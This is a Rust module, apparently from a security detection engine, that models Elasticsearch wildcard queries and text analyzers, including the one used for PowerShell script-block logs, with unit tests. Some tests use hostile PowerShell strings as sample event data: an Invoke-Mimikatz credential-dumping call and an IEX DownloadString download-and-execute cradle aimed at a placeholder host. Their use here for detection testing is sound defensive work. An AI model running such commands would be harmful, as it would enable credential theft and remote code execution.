//! Elasticsearch's query-DSL leaves that EQL's own operators cannot state,
//! for the front-ends that lower to EQL's tree (KQL, Lucene):
//!
//! - [`Wild`]: a `wildcard` / `query_string` term — `*` is any run of
//!   characters, `\` takes the next character literally, everything else
//!   (`?` included: KQL escapes it) is literal;
//! - [`Analyzer`]: how a `text` field is split into tokens, so that a
//!   `match` (some token of the query), a `match_phrase` (the query's
//!   tokens consecutive) and a wildcard over one token can be tested
//!   offline.

use std::borrow::Cow;

/// A wildcard pattern: literal segments between `*`s.
#[derive(Debug, Clone, PartialEq)]
pub struct Wild {
    /// The literal segments; `segs.len() - 1` stars separate them.
    segs: Vec<String>,
    insensitive: bool,
}

impl Wild {
    /// Reads a pattern: `*` any run, `\x` a literal `x`; lowercased when
    /// `insensitive` (a keyword's `lowercase` normalizer).
    pub fn new(p: &str, insensitive: bool) -> Wild {
        let mut segs = vec![String::new()];
        let mut chars = p.chars();
        while let Some(c) = chars.next() {
            match c {
                '\\' => {
                    if let Some(n) = chars.next() {
                        segs.last_mut().expect("one segment").push(n);
                    } else {
                        segs.last_mut().expect("one segment").push('\\');
                    }
                }
                '*' => segs.push(String::new()),
                c => segs.last_mut().expect("one segment").push(c),
            }
        }
        if insensitive {
            for s in &mut segs {
                *s = s.to_lowercase();
            }
        }
        Wild { segs, insensitive }
    }

    /// A pattern that matches exactly this text.
    pub fn literal(s: &str, insensitive: bool) -> Wild {
        Wild {
            segs: vec![if insensitive {
                s.to_lowercase()
            } else {
                s.to_string()
            }],
            insensitive,
        }
    }

    /// Does the pattern have a `*`?
    pub fn has_star(&self) -> bool {
        self.segs.len() > 1
    }

    pub fn matches(&self, s: &str) -> bool {
        if self.insensitive {
            let low = if s.bytes().any(|b| b.is_ascii_uppercase() || !b.is_ascii()) {
                Cow::Owned(s.to_lowercase())
            } else {
                Cow::Borrowed(s)
            };
            self.matches_exact(&low)
        } else {
            self.matches_exact(s)
        }
    }

    /// Leftmost-first search of each middle segment is exact for patterns
    /// whose only operator is `*`: linear, never backtracking.
    fn matches_exact(&self, s: &str) -> bool {
        let n = self.segs.len();
        let first = &self.segs[0];
        if n == 1 {
            return s == first;
        }
        let last = &self.segs[n - 1];
        if s.len() < first.len() + last.len() || !s.starts_with(first.as_str()) {
            return false;
        }
        if !s[first.len()..].ends_with(last.as_str()) {
            return false;
        }
        let mut rest = &s[first.len()..s.len() - last.len()];
        for mid in &self.segs[1..n - 1] {
            match rest.find(mid.as_str()) {
                Some(i) => rest = &rest[i + mid.len()..],
                None => return false,
            }
        }
        true
    }

    /// The most selective literal segment (every match contains it; see
    /// [`crate::glob::most_selective`]), if any.
    pub fn required_literal(&self) -> Option<&str> {
        let run = crate::glob::most_selective(self.segs.iter().map(|s| s.as_bytes()))?;
        self.segs
            .iter()
            .map(String::as_str)
            .find(|s| std::ptr::eq(s.as_bytes(), run))
    }
}

/// How a `text` field's values (and the queries on it) become tokens.
#[derive(Debug, Clone, Copy, PartialEq, Eq, Hash)]
pub enum Analyzer {
    /// Elasticsearch's `standard` analyzer, approximated: Unicode word
    /// segmentation (letters, digits and `_`, joined by `.` `'` `:` between
    /// letters and by `.` `,` `;` `'` between digits, as UAX #29's
    /// MidLetter/MidNum rules do), lowercased. Not modelled: ideographs as
    /// one token each, the 255-character token limit.
    Standard,
    /// A `pattern` analyzer splitting on `[\W&&[^-]]+` and lowercasing
    /// (the Windows integration's `powershell_script_analyzer` for
    /// `powershell.file.script_block_text`): tokens are runs of ASCII
    /// letters, digits, `_` and `-` (Java's `\W` is ASCII-only).
    WordsAndDashes,
}

/// What a full-text query asks of a field's tokens.
#[derive(Debug, Clone, Copy, PartialEq, Eq, Hash)]
pub enum TextQuery {
    /// `match`: some token of the query is a token of the value.
    AnyToken,
    /// `match_phrase`: the query's tokens occur consecutively, in order.
    Phrase,
    /// A wildcard term (`query_string`): lowercased, as the analyzer
    /// normalises multi-term queries, and tested against each token.
    Wildcard,
    /// A `regexp` (Lucene's syntax, anchored) tested against each token,
    /// as written (Elasticsearch does not normalise regexes).
    Regex,
}

impl Analyzer {
    /// The tokens of a text, lowercased.
    pub fn tokens<'a>(&self, s: &'a str) -> Vec<Cow<'a, str>> {
        let spans = match self {
            Analyzer::WordsAndDashes => words_and_dashes(s),
            Analyzer::Standard => standard(s),
        };
        spans
            .into_iter()
            .map(|(a, b)| {
                let t = &s[a..b];
                if t.bytes().any(|c| c.is_ascii_uppercase() || !c.is_ascii()) {
                    Cow::Owned(t.to_lowercase())
                } else {
                    Cow::Borrowed(t)
                }
            })
            .collect()
    }
}

fn words_and_dashes(s: &str) -> Vec<(usize, usize)> {
    let mut out = Vec::new();
    let mut start = None;
    for (i, b) in s.bytes().enumerate() {
        let word = b.is_ascii_alphanumeric() || b == b'_' || b == b'-';
        match (word, start) {
            (true, None) => start = Some(i),
            (false, Some(a)) => {
                out.push((a, i));
                start = None;
            }
            _ => {}
        }
    }
    if let Some(a) = start {
        out.push((a, s.len()));
    }
    out
}

fn standard(s: &str) -> Vec<(usize, usize)> {
    let chars: Vec<(usize, char)> = s.char_indices().collect();
    let word = |c: char| c.is_alphanumeric() || c == '_';
    let mut out = Vec::new();
    let mut i = 0;
    while i < chars.len() {
        if !word(chars[i].1) {
            i += 1;
            continue;
        }
        let start = chars[i].0;
        let mut j = i + 1;
        loop {
            if j < chars.len() && word(chars[j].1) {
                j += 1;
                continue;
            }
            // a joiner between two word characters of the same kind
            if j + 1 < chars.len() && word(chars[j + 1].1) {
                let (prev, mid, next) = (chars[j - 1].1, chars[j].1, chars[j + 1].1);
                let letters = prev.is_alphabetic() && next.is_alphabetic();
                let digits = prev.is_numeric() && next.is_numeric();
                if (letters && matches!(mid, '.' | '\'' | ':'))
                    || (digits && matches!(mid, '.' | ',' | ';' | '\''))
                {
                    j += 2;
                    continue;
                }
            }
            break;
        }
        let end = if j < chars.len() { chars[j].0 } else { s.len() };
        out.push((start, end));
        i = j;
    }
    out
}

/// A compiled full-text query: per pattern, its tokens (match, phrase) or
/// its wildcard (a token pattern).
#[derive(Debug, Clone)]
pub enum TextPattern {
    Tokens(Vec<String>),
    Wild(Wild),
    /// [`TextQuery::Regex`], built by the compiler (a bad regex is its
    /// error, not this type's).
    Regex(regex::Regex),
}

impl TextPattern {
    pub fn new(analyzer: Analyzer, query: TextQuery, p: &str) -> TextPattern {
        match query {
            TextQuery::Wildcard => TextPattern::Wild(Wild::new(p, true)),
            // the compiler builds regexes itself; reaching here means a
            // pattern to match literally
            TextQuery::Regex => TextPattern::Wild(Wild::literal(p, false)),
            _ => TextPattern::Tokens(
                analyzer
                    .tokens(p)
                    .into_iter()
                    .map(Cow::into_owned)
                    .collect(),
            ),
        }
    }

    /// Does a value's token list satisfy the pattern?
    pub fn matches(&self, query: TextQuery, toks: &[Cow<str>]) -> bool {
        match self {
            TextPattern::Wild(w) => toks.iter().any(|t| w.matches_exact(t)),
            TextPattern::Regex(r) => toks.iter().any(|t| r.is_match(t)),
            // no tokens (a query of punctuation): Elasticsearch's
            // `zero_terms_query: none`
            TextPattern::Tokens(q) if q.is_empty() => false,
            TextPattern::Tokens(q) => match query {
                TextQuery::Phrase => toks
                    .windows(q.len())
                    .any(|w| w.iter().zip(q).all(|(a, b)| a == b)),
                _ => q.iter().any(|x| toks.iter().any(|t| t == x)),
            },
        }
    }

    /// A literal every matching value holds (ASCII case aside), if any:
    /// the longest token of a phrase, the longest segment of a wildcard.
    pub fn required_literal(&self, query: TextQuery) -> Option<Vec<String>> {
        match (self, query) {
            (TextPattern::Wild(w), _) => w.required_literal().map(|l| vec![l.to_string()]),
            (TextPattern::Regex(_), _) => None,
            (TextPattern::Tokens(q), TextQuery::Phrase) => {
                q.iter().max_by_key(|t| t.len()).map(|t| vec![t.clone()])
            }
            (TextPattern::Tokens(q), _) if !q.is_empty() => Some(q.clone()),
            _ => None,
        }
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    fn toks(a: Analyzer, s: &str) -> Vec<String> {
        a.tokens(s).into_iter().map(Cow::into_owned).collect()
    }

    #[test]
    fn wildcards_star_only_with_escapes() {
        assert!(Wild::new("a*c", false).matches("abbbc"));
        assert!(Wild::new("a*c", false).matches("ac"));
        assert!(!Wild::new("a*c", false).matches("Abc"));
        assert!(Wild::new("a*c", true).matches("ABC"));
        assert!(Wild::new("a?c", false).matches("a?c"));
        assert!(!Wild::new("a?c", false).matches("abc"));
        assert!(Wild::new(r"a\*c", false).matches("a*c"));
        assert!(!Wild::new(r"a\*c", false).matches("abc"));
        assert!(Wild::new("*", false).matches(""));
        assert!(Wild::new("*ab*ab*", false).matches("abab"));
        assert!(!Wild::new("*ab*ab*", false).matches("aba"));
        assert!(!Wild::new("ab*ba", false).matches("aba"));
        assert!(Wild::new("*é*", true).matches("CAFÉ"));
        assert_eq!(Wild::new("*ab*abc*", false).required_literal(), Some("abc"));
        assert_eq!(Wild::new("*", false).required_literal(), None);
    }

    #[test]
    fn powershell_pattern_analyzer() {
        assert_eq!(
            toks(
                Analyzer::WordsAndDashes,
                "[string]::Join(',', $x) | Invoke-Mimikatz -DumpCreds"
            ),
            ["string", "join", "x", "invoke-mimikatz", "-dumpcreds"]
        );
        assert_eq!(toks(Analyzer::WordsAndDashes, "ÄbC_1"), ["bc_1"]);
    }

    #[test]
    fn standard_analyzer_approximation() {
        assert_eq!(
            toks(
                Analyzer::Standard,
                "Loading out-of-tree module taints kernel. 192.168.1.1 don't e.g."
            ),
            [
                "loading",
                "out",
                "of",
                "tree",
                "module",
                "taints",
                "kernel",
                "192.168.1.1",
                "don't",
                "e.g"
            ]
        );
        assert_eq!(
            toks(Analyzer::Standard, "[CVE-2020-0601]"),
            ["cve", "2020", "0601"]
        );
    }

    #[test]
    fn phrases_and_tokens() {
        let a = Analyzer::WordsAndDashes;
        let value = a.tokens("$a = [System.Convert]::ToInt16($b)");
        let p = TextPattern::new(a, TextQuery::Phrase, "[convert]::toint16");
        assert!(p.matches(TextQuery::Phrase, &value));
        let p = TextPattern::new(a, TextQuery::Phrase, "toint16 convert");
        assert!(!p.matches(TextQuery::Phrase, &value));
        assert!(p.matches(TextQuery::AnyToken, &value));
        let w = TextPattern::new(a, TextQuery::Wildcard, "*Int1*");
        assert!(w.matches(TextQuery::Wildcard, &value));
        let w = TextPattern::new(a, TextQuery::Wildcard, "*convert]*");
        assert!(!w.matches(TextQuery::Wildcard, &value));
        let none = TextPattern::new(a, TextQuery::Phrase, "::");
        assert!(!none.matches(TextQuery::Phrase, &value));
    }

    /// The constructs through the compiler and evaluator: any value of a
    /// multi-valued field, false (not null) on a missing field, so `not`
    /// matches events without it.
    #[test]
    fn through_compile_statement() {
        use crate::ast::{Body, EventQuery, Expr, MatchOp, Statement};
        let field = |p: &str| Expr::Field {
            path: p.into(),
            optional: false,
            pos: 0,
        };
        let q = |op: MatchOp, lhs: Expr, pats: &[&str], negated: bool| {
            let st = Statement {
                body: Body::Event(EventQuery {
                    category: None,
                    condition: Expr::Match {
                        op,
                        lhs: Box::new(lhs),
                        rhs: pats.iter().map(|p| Expr::Str(p.to_string())).collect(),
                        negated,
                        pos: 0,
                    },
                }),
                pipes: Vec::new(),
            };
            crate::compile_statement(&st, "", &crate::Options::default()).expect("compiles")
        };
        let mut ev = quarry_event::Event::default();
        ev.set("a", vec!["x?y", "Other"]);
        ev.set(
            "s",
            "IEX (New-Object Net.WebClient).DownloadString('http://x')",
        );
        ev.set("h.md5", "abc");
        ev.set("h.sha1", "def");
        let wild = MatchOp::Wildcard { insensitive: false };
        assert!(q(wild, field("a"), &["x?y"], false).matches(&ev));
        assert!(q(wild, field("a"), &["Oth*"], false).matches(&ev));
        assert!(!q(wild, field("a"), &["oth*"], false).matches(&ev));
        assert!(
            q(
                MatchOp::Wildcard { insensitive: true },
                field("a"),
                &["oth*"],
                false
            )
            .matches(&ev)
        );
        assert!(!q(wild, field("a"), &["xzy"], false).matches(&ev));
        // missing field: false, so negated (must_not) matches
        assert!(!q(wild, field("nope"), &["*"], false).matches(&ev));
        assert!(q(wild, field("nope"), &["x"], true).matches(&ev));
        let phrase = MatchOp::Text {
            analyzer: Analyzer::WordsAndDashes,
            query: TextQuery::Phrase,
        };
        assert!(q(phrase, field("s"), &["net.webclient"], false).matches(&ev));
        assert!(q(phrase, field("s"), &["New-Object Net"], false).matches(&ev));
        assert!(!q(phrase, field("s"), &["Net New-Object"], false).matches(&ev));
        assert!(q(phrase, field("nope"), &["x"], true).matches(&ev));
        let fields = |p: &str| Expr::Fields {
            pattern: p.into(),
            pos: 0,
        };
        assert!(q(wild, fields("h.*"), &["def"], false).matches(&ev));
        assert!(!q(wild, fields("h.*"), &["x?y"], false).matches(&ev));
        assert!(q(wild, fields("*"), &["x?y"], false).matches(&ev));
        assert!(!q(wild, fields("k.*"), &["*"], false).matches(&ev));
        let lits = q(wild, field("a"), &["*abc*de"], false).required_literals();
        assert_eq!(lits, vec![vec!["abc".to_string()]]);
    }
}
